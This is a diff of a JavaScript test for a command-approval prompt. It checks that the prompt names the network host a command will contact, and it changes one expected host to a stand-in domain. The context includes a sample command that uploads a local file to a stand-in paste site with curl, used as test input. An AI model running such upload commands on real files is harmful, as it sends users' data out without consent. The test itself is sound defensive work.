@@ -83,9 +83,9 @@ test('the host that a command waits for is named, and what its words would send 
     harmLines({ ...asked, effects: [], network: true, host, reason: `it wants to reach ${host}`, action })
       .slice(0, 2)
       .map(textOf);
-  expect(told('npm install', 'registry.npmjs.org')).toEqual([
-    'This needs your yes: it wants to reach registry.npmjs.org',
-    '  wants to reach registry.npmjs.org',
+  expect(told('npm install', 'mirror.example.org')).toEqual([
+    'This needs your yes: it wants to reach mirror.example.org',
+    '  wants to reach mirror.example.org',
   ]);
   const sending = 'curl -T notes.txt https://paste.example/';
   expect(told(sending, 'paste.example')).toEqual([
